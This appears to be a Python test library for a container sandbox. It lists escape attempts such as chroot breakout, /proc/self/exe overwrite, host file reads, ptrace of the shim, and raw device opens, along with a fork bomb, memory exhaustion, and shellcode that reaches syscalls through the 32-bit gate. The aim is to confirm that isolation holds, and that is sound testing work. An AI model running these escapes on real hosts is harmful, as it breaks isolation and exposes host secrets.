"""What native code in a container tries to get out of it: library.

Every function here is called in a child of a guest (see `broken.py`), raises OSError if it fails,
as it should, and returns what it got if it does not.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import mmap
import os
import resource
import signal
import socket
import stat
import struct
from collections.abc import Callable
from functools import partial
from typing import Any, NamedTuple

from shim.linux.clone import CLONE_NEWCGROUP, CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWUSER
from shim.linux.libc import LIBC


class Host(NamedTuple):
    """What an attacker might know of the host."""

    directory: str
    """Of the bundles, and of a file `secret`."""
    shim: int
    """Pid."""
    neighbour: int
    """Pid of another guest, of the same user."""
    abstract: bytes
    """An abstract socket of the host."""
    port: int
    """Of 127.0.0.1 on the host."""
    key: int
    """In the shim's session keyring."""


HOST = Host("", 0, 0, b"", 0, 0)

X86_64 = os.uname().machine == "x86_64"
# In the order of x86_64 and aarch64.
_CALLS = {
    "bpf": (321, 280),
    "clock_settime": (227, 112),
    "delete_module": (176, 106),
    "finit_module": (313, 273),
    "fsopen": (430, 430),
    "init_module": (175, 105),
    "kcmp": (312, 272),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "mount": (165, 40),
    "mount_setattr": (442, 442),
    "move_mount": (429, 429),
    "move_pages": (279, 239),
    "open_by_handle_at": (304, 265),
    "open_tree": (428, 428),
    "perf_event_open": (298, 241),
    "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434),
    "pivot_root": (155, 41),
    "process_vm_readv": (310, 270),
    "ptrace": (101, 117),
    "quotactl": (179, 60),
    "reboot": (169, 142),
    "sethostname": (170, 161),
    "setns": (308, 268),
    "swapon": (167, 224),
    "syslog": (103, 116),
    "umount2": (166, 39),
    "unshare": (272, 97),
    "userfaultfd": (323, 282),
}
_AT_FDCWD = -100
_MS_REMOUNT, _MS_BIND, _MS_REC, _MNT_DETACH = 32, 4096, 16384, 2
_PTRACE_SEIZE = 0x4206


def call(name: str, *arguments: object) -> int:
    """Make a system call. Raises OSError."""
    return call_number(_CALLS[name][not X86_64], *arguments)


def call_number(number: int, *arguments: object) -> int:
    """Make one that has no name here."""
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    LIBC.syscall.restype = ctypes.c_long
    result: int = LIBC.syscall(ctypes.c_long(number), *converted)
    if result == -1:
        raise OSError(ctypes.get_errno(), "")
    return result


ATTEMPTS: dict[str, Callable[[], object]] = {}


def attempt(function: Callable[[], object]) -> Callable[[], object]:
    """Add it to the list, in the order in which they are to be tried."""
    ATTEMPTS[function.__name__] = function
    return function


def add(name: str, function: Callable[[], object]) -> None:
    """Add one that needs no statements."""
    ATTEMPTS[name] = function


def read(path: str) -> bytes:
    with open(path, "rb", buffering=0) as file:
        return file.read(64)


def write(path: str, data: bytes) -> str:
    fd = os.open(path, os.O_WRONLY)
    os.write(fd, data)
    return "written"


# --- mounts and roots


add("mount a tmpfs", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
add("mount /proc", lambda: call("mount", b"none", b"/tmp", b"proc", 0, None))
add("mount a cgroup", lambda: call("mount", b"none", b"/tmp", b"cgroup", 0, b"memory"))
add("mount by bind", lambda: call("mount", b"/", b"/tmp", None, _MS_BIND | _MS_REC, None))
add("remount /sys", lambda: call("mount", None, b"/sys", None, _MS_REMOUNT | _MS_BIND, None))
add("remount /proc/sys", lambda: call("mount", None, b"/proc/sys", None, 4096 | 32, None))
add("unmount a mask", lambda: call("umount2", b"/proc/keys", _MNT_DETACH))
add("unmount the root", lambda: call("umount2", b"/", _MNT_DETACH))
add("fsopen", lambda: call("fsopen", b"proc", 0))
add("open_tree", lambda: call("open_tree", _AT_FDCWD, b"/", 1))
add("move_mount", lambda: call("move_mount", _AT_FDCWD, b"/sys", _AT_FDCWD, b"/tmp", 0))
add(
    "mount_setattr",
    lambda: call("mount_setattr", _AT_FDCWD, b"/", 0, struct.pack("=4Q", 0, 1, 0, 0), 32),
)
add("pivot_root", lambda: call("pivot_root", b"/", b"/"))


@attempt
def chroot_and_back() -> bytes:
    """A directory that is open from before a chroot leads out of it, and on to the real root."""
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return read(f"{HOST.directory}/secret")


@attempt
def open_the_root_by_its_handle() -> int:
    """The host's root directory is inode 2 of ext4, 128 of XFS and so on."""
    here = os.open("/", os.O_RDONLY)
    handle = struct.pack("=IiII", 8, 1, 2, 0)
    return call("open_by_handle_at", here, handle, os.O_RDONLY)


def _in_user_namespace(flags: int, then: Callable[[], object]) -> object:
    """Become root of a user namespace, and the init of a PID namespace below it."""
    uid, gid = os.getuid(), os.getgid()
    call("unshare", CLONE_NEWUSER | CLONE_NEWNS | flags)
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
        except OSError as error:
            if error.errno != errno.EROFS:
                raise  # else it is nobody there, with all capabilities
    if not flags & CLONE_NEWPID:
        return then()
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        number = 0
        try:
            then()
        except OSError as error:
            number = error.errno or 255
        os.write(writer, bytes([number]))
        os._exit(0)
    os.waitpid(pid, 0)
    (number,) = os.read(reader, 1)
    if number:
        raise OSError(number, "")
    return 0


def _mount_new(kind: bytes) -> object:
    return call("mount", b"none", b"/tmp", kind, 0, b"")


for kind, name, flags in (
    (b"proc", "/proc", CLONE_NEWPID),
    (b"sysfs", "/sys", CLONE_NEWNET),
    (b"cgroup", "a cgroup", CLONE_NEWCGROUP),
):
    mounting = partial(_mount_new, kind)
    add(f"mount {name} in a user namespace", partial(_in_user_namespace, flags, mounting))


def _lift_limits() -> object:
    """Its own cgroup can be mounted there; what is written in it is another matter."""
    call("mount", b"none", b"/tmp", b"cgroup2", 0, b"")
    return [write(f"/tmp/{file}.max", b"max") for file in ("memory", "pids")]


add(
    "lift its limits in a user namespace",
    lambda: _in_user_namespace(CLONE_NEWCGROUP, _lift_limits),
)
add(
    "unmount a mask in a user namespace",
    lambda: _in_user_namespace(0, lambda: call("umount2", b"/proc/keys", _MNT_DETACH)),
)
add(
    "remount /proc/sys in a user namespace",
    lambda: _in_user_namespace(
        0, lambda: call("mount", None, b"/proc/sys", None, _MS_REMOUNT | _MS_BIND, None)
    ),
)
add(
    "open a handle in a user namespace",
    lambda: _in_user_namespace(0, open_the_root_by_its_handle),
)


def _join(kind: str) -> int:
    return call("setns", os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0)


for name in ("mnt", "net", "pid", "user", "uts", "ipc", "cgroup"):
    add(f"join the first process's {name} namespace", partial(_join, name))


# --- what a descriptor or the working directory leads to


def _descriptors() -> list[int]:
    found = []
    for fd in range(1024):
        try:
            fcntl.fcntl(fd, fcntl.F_GETFD)
        except OSError:
            continue
        found.append(fd)
    return found


@attempt
def descriptors() -> str:
    """All that were inherited, and what they are; the last is the pipe of this attempt's own."""
    kinds = {
        stat.S_IFCHR: "device",
        stat.S_IFDIR: "directory",
        stat.S_IFIFO: "pipe",
        stat.S_IFREG: "file",
        stat.S_IFSOCK: "socket",
    }
    return " ".join(kinds.get(stat.S_IFMT(os.fstat(fd).st_mode), "?") for fd in _descriptors())


@attempt
def working_directory() -> str:
    """Outside of the root the kernel calls it (unreachable) (CVE-2024-21626)."""
    return os.getcwd()


def _any_of(paths: list[str]) -> bytes:
    error = OSError(errno.ENOENT, "")
    for path in paths:
        try:
            return read(path)
        except OSError as e:
            error = e
    raise error


UP = "../" * 40


@attempt
def up_from_descriptors() -> bytes:
    """Is one of the directories outside of the root?"""
    error = OSError(errno.ENOENT, "")
    for fd in _descriptors():
        try:
            return os.read(os.open(f"{UP}{HOST.directory}/secret", os.O_RDONLY, dir_fd=fd), 64)
        except NotADirectoryError:
            continue
        except OSError as e:
            error = e
    raise error


add(
    "up from /proc/self/fd",
    lambda: _any_of([f"/proc/self/fd/{fd}/{UP}{HOST.directory}/secret" for fd in range(3, 64)]),
)
for pid in ("self", "1"):
    for link in ("cwd", "root"):
        way = f"/proc/{pid}/{link}"
        add(f"up from {way}", lambda way=way: read(f"{way}/{UP}{HOST.directory}/secret"))  # type: ignore[misc]
add("an absolute path", lambda: read(f"{HOST.directory}/secret"))
add("the artifact cache", lambda: os.listdir(f"{HOST.directory}/state/artifacts"))
add("change the mode of stdin", lambda: os.fchmod(0, 0o666))
add("change the owner of stdin", lambda: os.fchown(0, 0, 0))
add("change the times of stdin", lambda: os.utime(0))
add("mark stdin", lambda: os.setxattr(0, "trusted.x", b""))


# --- the runtime's own executable, which is the host's (CVE-2019-5736)

EXE = "/proc/self/exe"
add("write to the interpreter", lambda: os.open(EXE, os.O_WRONLY))
add("truncate the interpreter", lambda: os.truncate(EXE, os.stat(EXE).st_size))
add("change the interpreter's mode", lambda: os.chmod(EXE, os.stat(EXE).st_mode & 0o7777))
add("change the interpreter's owner", lambda: os.chown(EXE, 0, 0))
add(
    "give the interpreter capabilities", lambda: os.setxattr(EXE, "security.capability", b"\0" * 20)
)
add("link the interpreter", lambda: os.link(EXE, "/tmp/interpreter", follow_symlinks=True))


@attempt
def write_to_the_interpreter_by_a_descriptor() -> object:
    """Which lives on while the process executes something else."""
    held = os.open(EXE, os.O_PATH)
    return os.open(f"/proc/self/fd/{held}", os.O_WRONLY)


@attempt
def write_to_a_library() -> object:
    """Other files of the host's are mapped."""
    name = os.listdir("/proc/self/map_files")[0]
    return os.open(f"/proc/self/map_files/{name}", os.O_RDONLY)


# --- /proc and /sys

for path in (
    "/proc/self/mem",
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/vm/panic_on_oom",
    "/proc/sysrq-trigger",
    "/proc/irq/default_smp_affinity",
    "/proc/bus/pci",
    "/sys/kernel/uevent_helper",
    "/sys/kernel/mm/ksm/run",
    "/sys/fs/cgroup/memory/release_agent",
    "/sys/fs/cgroup/memory/notify_on_release",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes",
    "/sys/fs/cgroup/devices/devices.allow",
    "/sys/fs/cgroup/pids/cgroup.procs",
):
    add(f"write {path}", partial(os.open, path, os.O_WRONLY))
for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug"):
    add(f"read {path}", partial(read, path))
add("make a cgroup", lambda: os.mkdir("/sys/fs/cgroup/memory/out"))


@attempt
def lower_the_oom_score() -> str:
    return write("/proc/self/oom_score_adj", b"-1000")


# --- other processes


def _read_memory(pid: int) -> object:
    buffer = ctypes.create_string_buffer(8)
    iov = struct.pack("=QQ", ctypes.addressof(buffer), 8)
    # The guest is a copy of its shim, so an address of ours is one of theirs.
    return call("process_vm_readv", pid, iov, 1, iov, 1, 0)


def _take_descriptor(pid: int) -> object:
    return call("pidfd_getfd", call("pidfd_open", pid, 0), 0, 0)


def _pid(whose: str) -> int:
    return int(getattr(HOST, whose))


def _open_part(whose: str, part: str) -> str:
    os.open(f"/proc/{_pid(whose)}/{part}", os.O_RDONLY)
    return "opened"


ON_OTHERS: dict[str, Callable[[int], object]] = {
    "signal the": lambda pid: os.kill(pid, 0),
    "trace the": lambda pid: call("ptrace", _PTRACE_SEIZE, pid, 0, 0),
    "read the memory of the": _read_memory,
    "take a descriptor of the": _take_descriptor,
    "move the pages of the": lambda pid: call("move_pages", pid, 0, 0, 0, 0, 0),
    "compare with the": lambda pid: call("kcmp", pid, os.getpid(), 1, 0, 0),
    "a file by the root of the": lambda pid: read(f"/proc/{pid}/root{HOST.directory}/secret"),
}


def _do(what: Callable[[int], object], whose: str) -> object:
    return what(_pid(whose))


for whose in ("shim", "neighbour"):
    for name, what in ON_OTHERS.items():
        add(f"{name} {whose}", partial(_do, what, whose))
    for part in ("mem", "root", "cwd", "environ", "maps", "fd/0", "exe", "ns/mnt"):
        add(f"open {part} of the {whose}", partial(_open_part, whose, part))


@attempt
def signal_everybody() -> None:
    """All that it may signal, but for itself and the first process."""
    if os.getppid() == 1:  # it is in a PID namespace of its own
        os.kill(-1, signal.SIGKILL)
    raise ProcessLookupError(errno.ESRCH, "")


# --- the kernel

DEVICES = {
    "the root disk": (stat.S_IFBLK, os.stat("/").st_dev),
    "/dev/mem": (stat.S_IFCHR, os.makedev(1, 1)),
    "/dev/port": (stat.S_IFCHR, os.makedev(1, 4)),
    "/dev/kmsg": (stat.S_IFCHR, os.makedev(1, 11)),
    "/dev/fuse": (stat.S_IFCHR, os.makedev(10, 229)),
    "/dev/kvm": (stat.S_IFCHR, os.makedev(10, 232)),
    "/dev/loop-control": (stat.S_IFCHR, os.makedev(10, 237)),
    "the first terminal": (stat.S_IFCHR, os.makedev(4, 1)),
}


def _device(kind: int, number: int) -> object:
    path = f"/tmp/device-{os.getpid()}"
    os.mknod(path, kind | 0o666, number)
    try:
        return os.open(path, os.O_RDWR) and "opened"
    finally:
        os.unlink(path)


for name, device in DEVICES.items():
    add(f"open {name}", partial(_device, *device))

add("load a module", lambda: call("init_module", b"", 0, b""))
add("load a module from a file", lambda: call("finit_module", 0, b"", 0))
add("remove a module", lambda: call("delete_module", b"none", 0))
add("another kernel", lambda: call("kexec_load", 0, 0, 0, 0))
add("bpf", lambda: call("bpf", 0, struct.pack("=4I104x", 1, 4, 4, 1), 120))
add(
    "perf_event_open",
    lambda: call("perf_event_open", struct.pack("=IIQ104x", 1, 120, 0), -1, 0, -1, 0),
)
add("userfaultfd", lambda: call("userfaultfd", 0))
add("reboot", lambda: call("reboot", 0xFEE1DEAD - (1 << 32), 672274793, 0, 0))
add("swapon", lambda: call("swapon", b"/tmp/none", 0))
add("set the clock", lambda: call("clock_settime", 0, struct.pack("=qq", 1, 0)))
add("read the kernel's log", lambda: call("syslog", 3, ctypes.create_string_buffer(64), 64))
add("clear the kernel's log", lambda: call("syslog", 5, 0, 0))
add("quotas", lambda: call("quotactl", 0x80000100 - (1 << 32), b"/dev/none", 0, None))
add("set the host's name", lambda: call("sethostname", b"x", 1))
if X86_64:
    add("ports", lambda: call_number(172, 3))
    add("some ports", lambda: call_number(173, 0x70, 1, 1))


# --- other ways into the kernel: a filter has to know them, too


@attempt
def call_as_a_32_bit_program() -> int:
    """unshare(CLONE_NEWUSER) by the i386 gate: number 310 there."""
    if not X86_64:
        raise OSError(errno.EPERM, "")
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    # push rbx; mov eax, 310; mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    code.write(bytes.fromhex("53 b836010000 bb00000010 cd80 5b c3"))
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    result = int(function())
    if result < 0:
        raise OSError(-result, "")
    return result


add("call as an x32 program", lambda: call_number(0x40000000 | 272, CLONE_NEWUSER))


# --- keys

add("the shim's key", lambda: call("keyctl", 11, HOST.key, ctypes.create_string_buffer(8), 8, 0))
add("link the shim's key", lambda: call("keyctl", 8, HOST.key, -3, 0, 0))
add("search for a key", lambda: call("keyctl", 10, -3, b"user", b"host", 0))


# --- privileges

_HEADER = struct.pack("=Ii", 0x20080522, 0)


def _capset() -> int:
    everything = struct.pack("=6I", *[0xFFFFFFFF] * 3, *[0x1FF] * 3)
    number = 126 if X86_64 else 91
    return call_number(number, _HEADER, everything)


def _prctl(*arguments: int) -> int:
    number = 157 if X86_64 else 167
    return call_number(number, *arguments)


add("take all capabilities", _capset)
add("an ambient capability", lambda: _prctl(47, 2, 21, 0, 0))
add("no longer no_new_privs", lambda: _prctl(38, 0, 0, 0, 0))
add("another memory map", lambda: _prctl(35, 13, 0, 0, 0))


@attempt
def become_root() -> str:
    """And if it is that already: with more than it has."""
    os.setresuid(0, 0, 0)
    return _output("/status")


def _execute(prepare: Callable[[str], object]) -> str:
    path = f"/tmp/status-{os.getpid()}"
    source = os.open("/status", os.O_RDONLY)
    target = os.open(path, os.O_WRONLY | os.O_CREAT, 0o755)
    os.write(target, os.read(source, 1 << 20))
    os.close(target)
    os.close(source)
    try:
        prepare(path)
        return _output(path)
    finally:
        os.unlink(path)


def _output(path: str) -> str:
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(writer, 1)
        try:
            os.execv(path, [path])
        except OSError as error:
            os.write(1, (error.errno or 255).to_bytes(1, "little"))
        os._exit(127)
    os.close(writer)
    os.waitpid(pid, 0)
    said = os.read(reader, 4096)
    if len(said) == 1:
        raise OSError(said[0], "")
    return said.decode().replace("\t", " ").replace("\n", "  ").strip()


add(
    "a file with capabilities",
    lambda: _execute(
        lambda path: os.setxattr(
            path, "security.capability", struct.pack("=5I", 0x02000001, 0xFFFFFFFF, 0, 0x1FF, 0)
        )
    ),
)
add("a file that is setuid", lambda: _output("/setuid"))


# --- limits

add("more open files", lambda: resource.prlimit(0, resource.RLIMIT_NOFILE, (1 << 19, 1 << 19)))


@attempt
def more_processes() -> None:
    """A fork bomb, which ends with this process; and soon enough if nothing stops it."""
    reader, writer = os.pipe()
    for _ in range(256):
        if os.fork() == 0:
            os.close(writer)
            os.read(reader, 1)
            os._exit(0)


@attempt
def more_memory() -> str:
    """As much as it gets."""
    kept = [b"x" * (1 << 20) for _ in range(512)]
    return f"{len(kept)} MiB"


add("realtime", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
add("be nice", lambda: os.nice(-20))


# --- the network

add("the host's abstract sockets", lambda: socket.socket(socket.AF_UNIX).connect(HOST.abstract))
add("the host's loopback", lambda: socket.socket().connect(("127.0.0.1", HOST.port)))
add("interfaces", lambda: " ".join(name for _, name in socket.if_nameindex()))


@attempt
def an_address_by_netlink() -> bytes:
    """RTM_NEWADDR of 10.0.0.1 on interface 1."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW) as netlink:
        address = socket.inet_aton("10.0.0.1")
        attribute = struct.pack("=HH", 8, 2) + address
        message = struct.pack("=BBBBI", socket.AF_INET, 8, 0, 0, 1) + attribute
        netlink.send(struct.pack("=IHHII", 16 + len(message), 20, 0x605, 1, 0) + message)
        answer = netlink.recv(4096)
    (number,) = struct.unpack_from("=i", answer, 16)
    if number < 0:
        raise OSError(-number, "")
    return answer


@attempt
def interface_down() -> Any:
    """SIOCSIFFLAGS with none."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return fcntl.ioctl(sock, 0x8914, struct.pack("=16sH14x", b"lo", 0))
